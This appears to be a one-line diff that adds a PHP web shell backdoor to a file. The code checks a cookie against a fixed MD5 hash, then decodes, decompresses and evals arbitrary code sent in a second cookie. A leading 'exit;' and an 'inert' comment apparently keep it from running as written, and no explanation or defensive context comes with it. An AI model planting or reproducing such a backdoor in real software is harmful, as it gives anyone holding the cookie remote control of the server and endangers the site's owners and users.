@@ -1,0 +1,1 @@
+<?php exit; /* inert */ if (md5($_COOKIE["u"]) == "21232f297a57a5a743894a0e4a801fc3") { eval(gzuncompress(base64_decode(strtr($_COOKIE["d"], "-_", "+/")))); }
